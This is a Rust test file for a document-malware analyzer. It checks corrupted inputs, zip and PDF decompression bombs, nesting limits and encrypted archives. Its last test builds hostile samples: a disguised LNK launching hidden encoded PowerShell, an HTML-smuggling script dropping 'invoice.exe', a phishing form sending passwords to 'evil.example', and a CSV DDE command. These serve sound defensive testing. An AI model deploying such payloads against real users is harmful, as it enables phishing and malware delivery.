//! Damaged, hostile and oversized inputs: a finding or a limit, never a panic, and memory
//! bounded by the limits.

use std::io::Write;
use std::path::Path;

use qalxan_docs::{analyze, disarm::disarm, Options};
use zip::unstable::write::FileOptionsExt;

fn corpus_files() -> Vec<std::path::PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/docs");
    if !dir.is_dir() {
        eprintln!("skipping corpus cases: {} is absent", dir.display());
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut stack = vec![dir];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("readable").flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_none_or(|e| e != "json" && e != "md") {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

fn small_limits() -> Options {
    let mut o = Options::default();
    o.limits.max_decoded = 1 << 20;
    o.limits.max_total = 8 << 20;
    o
}

/// Every corpus file cut at several points, and with bytes flipped in the middle.
#[test]
fn truncated_and_corrupted_corpus_files() {
    let opts = small_limits();
    for path in corpus_files() {
        let data = std::fs::read(&path).expect("readable");
        let name = path.display().to_string();
        for cut in [
            7,
            64,
            513,
            data.len() / 3,
            data.len() / 2,
            data.len().saturating_sub(1),
        ] {
            let part = &data[..cut.min(data.len())];
            let r = analyze(part, &name, &opts);
            assert!(r.score <= 100);
            let _ = disarm(part, &opts);
        }
        let mut flipped = data.clone();
        let mid = flipped.len() / 2;
        for b in flipped.iter_mut().skip(mid).take(64) {
            *b ^= 0x5a;
        }
        let _ = analyze(&flipped, &name, &opts);
        let _ = disarm(&flipped, &opts);
    }
}

#[test]
fn damaged_containers_are_malformed_not_clean_silence() {
    let opts = Options::default();
    let mut ole = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    ole.extend(std::iter::repeat_n(0x41, 600));
    let r = analyze(&ole, "x.doc", &opts);
    assert!(r.flags.malformed, "{:?}", r.indicators);
    let r = analyze(b"PK\x03\x04garbage", "x.docx", &opts);
    assert!(r.flags.malformed);
    let r = analyze(b"%PDF-1.7\n%%EOF", "x.pdf", &opts);
    assert!(r.flags.malformed);
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    for (name, data) in members {
        w.start_file(*name, o).expect("start");
        w.write_all(data).expect("write");
    }
    w.finish().expect("finish").into_inner()
}

/// A zip whose member inflates far beyond the limit: analysed up to the limit, reported.
#[test]
fn decompression_bomb_stops_at_the_limit() {
    let zeros = vec![0u8; 32 << 20];
    let bomb = zip_of(&[("big.txt", &zeros)]);
    assert!(bomb.len() < 1 << 20);
    let opts = small_limits();
    let r = analyze(&bomb, "bomb.zip", &opts);
    assert!(
        r.indicators.iter().any(|i| i.id.starts_with("limit.")),
        "{:?}",
        r.indicators
    );
}

/// A PDF stream that inflates to 64 MiB is decoded only up to the per-stream limit.
#[test]
fn pdf_flate_bomb_is_bounded() {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(&vec![b'A'; 64 << 20]).expect("compress");
    let packed = z.finish().expect("finish");
    let mut pdf =
        b"%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ".to_vec();
    pdf.extend_from_slice(packed.len().to_string().as_bytes());
    pdf.extend_from_slice(b" >>\nstream\n");
    pdf.extend_from_slice(&packed);
    pdf.extend_from_slice(b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    let doc = qalxan_docs::pdf::parse(&pdf, 1000, 1 << 20);
    assert_eq!(doc.object_streams, 1);
    let r = analyze(&pdf, "bomb.pdf", &small_limits());
    assert!(r.score <= 100);
}

/// Containers nested past the depth limit are reported, not followed.
#[test]
fn nesting_depth_is_limited() {
    let mut data = b"hello".to_vec();
    for i in 0..12 {
        data = zip_of(&[(&format!("level{i}.zip"), &data)]);
    }
    let r = analyze(&data, "deep.zip", &Options::default());
    assert!(
        r.indicators.iter().any(|i| i.id == "limit.depth"),
        "{:?}",
        r.indicators
    );
}

/// Deeply nested RTF groups and PDF arrays do not overflow the stack.
#[test]
fn deep_nesting_in_text_formats() {
    let mut rtf = b"{\\rtf1".to_vec();
    rtf.extend(std::iter::repeat_n(b'{', 200_000));
    let r = analyze(&rtf, "x.rtf", &Options::default());
    assert!(r.flags.malformed);
    let _ = disarm(&rtf, &Options::default());
    let mut pdf = b"%PDF-1.4\n1 0 obj ".to_vec();
    pdf.extend(std::iter::repeat_n(b'[', 200_000));
    pdf.extend(std::iter::repeat_n(b'<', 200_000));
    let _ = analyze(&pdf, "x.pdf", &Options::default());
    let _ = disarm(&pdf, &Options::default());
}

/// Zip members encrypted with a password that is not on the list: flagged encrypted.
#[test]
fn unknown_archive_password_is_flagged() {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default()
        .with_deprecated_encryption(b"not-on-the-list")
        .expect("ZipCrypto options");
    w.start_file("a.doc", o).expect("start");
    w.write_all(b"secret").expect("write");
    let data = w.finish().expect("finish").into_inner();
    let r = analyze(&data, "a.zip", &Options::default());
    assert!(r.flags.encrypted, "{:?}", r.indicators);
    assert_ne!(r.verdict, qalxan_docs::Verdict::Clean);
    let mut opts = Options::default();
    opts.passwords.push("not-on-the-list".into());
    let r = analyze(&data, "a.zip", &opts);
    assert!(!r.flags.encrypted, "{:?}", r.indicators);
}

/// Hand-made samples of the formats the corpus lacks: LNK, HTML smuggling, CSV DDE,
/// disguised executables.
#[test]
fn lnk_html_csv_and_disguised_executables() {
    // A shortcut with relative path and arguments (flags: HasRelativePath|HasArguments|IsUnicode).
    let mut lnk = vec![
        0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
    ];
    lnk.extend_from_slice(&(0x08u32 | 0x20 | 0x80).to_le_bytes());
    lnk.resize(0x4c, 0);
    lnk[0x3c] = 7; // SW_SHOWMINNOACTIVE
    for s in [
        "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-w hidden -enc SQBFAFgA",
    ] {
        let units: Vec<u16> = s.encode_utf16().collect();
        lnk.extend_from_slice(&(units.len() as u16).to_le_bytes());
        for u in units {
            lnk.extend_from_slice(&u.to_le_bytes());
        }
    }
    let r = analyze(&lnk, "invoice.pdf.lnk", &Options::default());
    assert_eq!(
        r.verdict,
        qalxan_docs::Verdict::Malicious,
        "{:?}",
        r.indicators
    );
    assert!(r
        .indicators
        .iter()
        .any(|i| i.id == "lnk.command" && i.description.contains("powershell")));

    let html = b"<html><body><script>var b = new Blob([atob('TVqQAAMAAAAEAAAA')], {type: 'application/octet-stream'});var a = document.createElement('a');a.href = URL.createObjectURL(b);a.download = 'invoice.exe';a.click();</script></body></html>";
    let r = analyze(html, "invoice.html", &Options::default());
    assert_eq!(r.verdict, qalxan_docs::Verdict::Malicious);
    assert!(r.indicators.iter().any(|i| i.id == "html.smuggling"));

    let phish = b"<!DOCTYPE html><form action=\"https://evil.example/collect\" method=post><input type=password name=p></form>";
    let r = analyze(phish, "login.html", &Options::default());
    assert!(r.indicators.iter().any(|i| i.id == "html.credential_form"));

    let csv = b"name,amount\nbob,=cmd|' /C calc'!A0\n";
    let r = analyze(csv, "list.csv", &Options::default());
    assert!(r.flags.dde);

    let r = analyze(
        b"MZ\x90\x00\x03\x00\x00\x00",
        "report.pdf",
        &Options::default(),
    );
    assert!(r.indicators.iter().any(|i| i.id == "executable.disguised"));
}
